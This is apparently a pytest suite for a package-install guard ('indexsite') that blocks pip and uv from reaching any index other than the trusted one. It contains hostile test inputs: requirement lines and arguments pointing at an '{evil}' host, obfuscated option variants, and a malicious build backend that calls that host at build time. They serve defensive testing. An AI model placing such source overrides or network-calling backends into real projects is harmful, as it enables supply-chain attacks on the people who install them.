"""Whatever names another source is refused or removed: that source never sees a connection."""

import signal
from pathlib import Path

import pytest

from client.tests.distributions import sdist
from client.tests.homes import Home, eventually, is_running
from client.tests.hostile_mirror import HostileMirror
from client.tests.index_simulator import IndexSimulator

KINDS = ["pip", "uv"]

REQUIREMENTS = [
    "--extra-index-url {evil}/simple\ndemo-app\n",
    "--index-url {evil}/simple\ndemo-app\n",
    "--find-links {evil}/\ndemo-app\n",
    "demo-app @ {evil}/demo_app-99.0-py3-none-any.whl\n",
    "{evil}/demo_app-99.0-py3-none-any.whl\n",
    "--extra-index\\\n-url {evil}/simple\ndemo-app\n",
    "demo-app\n--pre --extra-ind {evil}/simple\n",
    "-e git+{evil}/demo-app.git#egg=demo-app\n",
    "-r {evil}/requirements.txt\n",
]


@pytest.mark.parametrize("template", REQUIREMENTS)
def test_a_requirements_file_with_a_source_is_refused(trusted: Home, canary: HostileMirror, template: str) -> None:
    (trusted.folder / "requirements.txt").write_text(template.format(evil=canary.url))

    done = trusted.run(*trusted.installer("uv", "-r", "requirements.txt"))

    assert done.returncode == 1
    assert "requirements.txt" in done.stderr
    assert trusted.installed() == set()
    assert canary.connections == 0


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("nested", ["-r deeper/inner.txt", "-c deeper/inner.txt", "--constraint=deeper/inner.txt"])
def test_a_nested_file_with_a_source_is_refused(trusted: Home, canary: HostileMirror, kind: str, nested: str) -> None:
    (trusted.folder / "deeper").mkdir()
    (trusted.folder / "requirements.txt").write_text(f"demo-app\n{nested}\n")
    (trusted.folder / "deeper" / "inner.txt").write_text("# fine\n-r innermost.txt\n")
    (trusted.folder / "deeper" / "innermost.txt").write_text(f"--extra-index-url {canary.url}/simple\n")

    done = trusted.run(*trusted.installer(kind, "-rrequirements.txt"))

    assert done.returncode == 1
    assert "innermost.txt:1" in done.stderr
    assert trusted.installed() == set()
    assert canary.connections == 0


@pytest.mark.parametrize("kind", KINDS)
def test_a_harmless_requirements_file_is_installed(trusted: Home, kind: str) -> None:
    (trusted.folder / "pins.txt").write_text("demo-lib==1.0\n")
    (trusted.folder / "requirements.txt").write_text(
        "# see https://example.org/\n-c pins.txt\ndemo-app>=1 ; python_version>'3'\n"
    )

    done = trusted.run(*trusted.installer(kind, "-r", "requirements.txt"))

    assert done.returncode == 0, done.stderr
    assert trusted.installed() == {"demo_app", "demo_lib"}
    assert list(trusted.venv.glob("lib/*/site-packages/demo_lib-1.0.dist-info"))


ARGUMENTS = [
    ["--extra-index-url", "{evil}/simple", "demo-app"],
    ["--extra-index-url={evil}/simple", "demo-app"],
    ["-qf", "{evil}/", "demo-app"],
    ["demo-app @ {evil}/demo_app-99.0-py3-none-any.whl"],
]


@pytest.mark.parametrize("arguments", ARGUMENTS)
@pytest.mark.parametrize("kind", KINDS)
def test_an_argument_that_names_a_source_is_refused(
    trusted: Home, canary: HostileMirror, arguments: list[str], kind: str
) -> None:
    done = trusted.run(*trusted.installer(kind, *(each.format(evil=canary.url) for each in arguments)))

    assert done.returncode == 1
    assert done.stderr.startswith("indexsite: ")
    assert trusted.installed() == set()
    assert canary.connections == 0


@pytest.mark.parametrize("kind", KINDS)
def test_configured_sources_are_removed(trusted: Home, canary: HostileMirror, kind: str) -> None:
    configuration = trusted.folder / "config"
    for name in ("pip", "uv"):
        (configuration / name).mkdir(parents=True)
    (configuration / "pip" / "pip.conf").write_text(f"[global]\nextra-index-url = {canary.url}/simple\n")
    (configuration / "uv" / "uv.toml").write_text(f'[[index]]\nurl = "{canary.url}/simple"\n')
    (trusted.folder / "pyproject.toml").write_text(f'[tool.uv]\nextra-index-url = ["{canary.url}/simple"]\n')
    for name in ("PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX", "UV_EXTRA_INDEX_URL", "UV_FIND_LINKS"):
        trusted.environment[name] = f"{canary.url}/simple"

    done = trusted.run(*trusted.installer(kind, "demo-app"))

    assert done.returncode == 0, done.stderr
    assert list(trusted.venv.glob("lib/*/site-packages/demo_app-2.0.dist-info"))
    assert canary.connections == 0


CALLING_BACKEND = """
import urllib.request
def _call(*arguments, **options):
    urllib.request.urlopen("{evil}/simple/", timeout=5)
build_wheel = prepare_metadata_for_build_wheel = _call
"""


@pytest.mark.parametrize("kind", KINDS)
def test_a_build_cannot_reach_another_port_of_this_host(
    trusted: Home, simulator: IndexSimulator, canary: HostileMirror, kind: str
) -> None:
    simulator.add_project("caller", [sdist("caller", backend=CALLING_BACKEND.format(evil=canary.url))])
    simulator.publish()

    done = trusted.run(*trusted.installer(kind, "caller"))

    assert done.returncode != 0
    assert f"indexsite: refused: a request to {canary.url.removeprefix('http://')}" in done.stderr
    assert canary.connections == 0


SLEEPING_BACKEND = """
import os, pathlib, subprocess, sys
def _sleep(*arguments, **options):
    child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
    pathlib.Path("{pids}").write_text(f"{{os.getppid()}} {{os.getpid()}} {{child.pid}}")
    child.wait()
build_wheel = prepare_metadata_for_build_wheel = _sleep
"""


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_ends_the_run_and_leaves_nothing_running(
    trusted: Home, simulator: IndexSimulator, tmp_path: Path, number: signal.Signals
) -> None:
    pids = tmp_path / "pids"
    simulator.add_project("sleeper", [sdist("sleeper", backend=SLEEPING_BACKEND.format(pids=pids))])
    simulator.publish()

    with trusted.start("run", "--", *trusted.installer("pip", "sleeper")) as process:
        eventually(lambda: pids.exists() and pids.read_text().count(" ") == 2, within=30)
        process.send_signal(number)
        process.communicate(timeout=30)

    assert process.returncode != 0
    eventually(lambda: not any(is_running(int(pid)) for pid in pids.read_text().split()))
